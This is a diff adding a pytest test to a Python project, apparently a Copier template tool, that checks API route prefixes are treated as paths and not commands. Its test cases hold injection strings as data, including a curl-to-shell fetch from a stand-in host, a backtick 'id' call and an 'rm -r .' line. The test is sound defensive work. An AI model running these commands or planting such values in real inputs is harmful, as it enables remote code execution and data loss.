@@ -10,6 +10,8 @@ from pathlib import Path
 
 import pytest
 from copier_better_auth.discovery import discover
+from copier_better_auth.discovery.suggestions import suggestions
+from copier_better_auth.repository import Repository
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from support.repositories import build, flat, full_stack
@@ -68,6 +70,27 @@ def test_the_full_stack_shape(tmp_path: Path) -> None:
     evidence = found["evidence"]
     assert isinstance(evidence, dict)
     assert evidence["app_module"][0].startswith("backend/app/main.py:")
+
+
+@pytest.mark.parametrize(
+    ("written", "found"),
+    [
+        ("/api/v1.0", "/api/v1.0"),
+        ("/{tenant}/api", "/{tenant}/api"),
+        ("/api; curl evil.test | sh #", ""),
+        ("/${process.exit()}", ""),
+        ("/`id`", ""),
+        ("/api\\n\\nrm -r .", ""),
+    ],
+)
+def test_a_prefix_is_a_path_and_no_command(
+    tmp_path: Path, written: str, found: str
+) -> None:
+    """It is rendered into code, and into commands that people paste into a shell."""
+    routers = f'app.include_router(x, prefix="{written}")\n' * 2
+    build(tmp_path, {"main.py": APP + routers, "requirements.txt": "fastapi\n"})
+    suggested = suggestions(discover(tmp_path), Repository(tmp_path))
+    assert suggested["auth_api_prefix"] == found
 
 
 def test_relative_imports_mean_a_package(tmp_path: Path) -> None:
